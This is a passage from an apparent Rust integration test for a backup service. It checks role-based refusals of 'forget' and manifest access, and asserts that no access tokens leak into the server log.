    find("hv01", "tags add manual:keep", "ok");
    find("admin", "distrust --dry-run", "ok");
    let refused_forget = find("hv01", "forget", "failed");
    assert!(
        refused_forget.contains("needs role operator or admin"),
        "{refused_forget}"
    );
    find("admin", "forget", "ok");
    find("hv01", "agent connect hv01", "ok");
    // The restore's first request, for the manifest, is refused.
    let denied = find("hv02", "manifest", "failed");
    assert!(denied.contains("may not access job vm1"), "{denied}");
    for line in server.log_lines(0) {
        for (t, _) in &s.tokens {
            assert!(!line.contains(t.as_str()), "a token in the log: {line}");
        }
    }
}
